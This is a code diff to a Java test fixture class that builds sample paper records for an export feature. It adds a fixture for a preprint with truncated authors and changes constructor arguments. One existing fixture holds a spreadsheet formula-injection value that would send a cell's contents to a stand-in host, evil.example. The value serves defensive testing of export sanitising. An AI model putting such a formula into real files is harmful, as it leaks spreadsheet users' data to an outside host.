@@ -46,6 +46,11 @@ final class ExportTestPapers {
                 "2510.00001", null, null, "https://github.com/example/dymu2", null, "efficiency/token-compression");
     }
 
+    /** An arXiv preprint whose source listed only its first authors. */
+    static PaperDetails authorsCutShort() {
+        return TestPapers.otc();
+    }
+
     /** Values a spreadsheet would run as formulas. */
     static PaperDetails formulas() {
         return paper("formula-injection", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
@@ -56,8 +61,8 @@ final class ExportTestPapers {
     static PaperDetails paper(String id, String title, List<String> authors, String published, String venue,
                               String arxiv, String doi, String paperLink, String code, String abstractText,
                               String category) {
-        return new PaperDetails(id, title, authors, published, null, venue, new PaperIdentifiers(arxiv, doi),
-                new PaperLinks(paperLink, null, code, null), abstractText,
+        return new PaperDetails(id, title, authors, false, published, null, venue, new PaperIdentifiers(arxiv, doi),
+                new PaperLinks(paperLink, null, code, null, null), abstractText,
                 List.of(new CategoryRef(category, category)), List.of(), null, List.of(), null, List.of(), List.of(),
                 1, TestPapers.CHANGED_AT);
     }
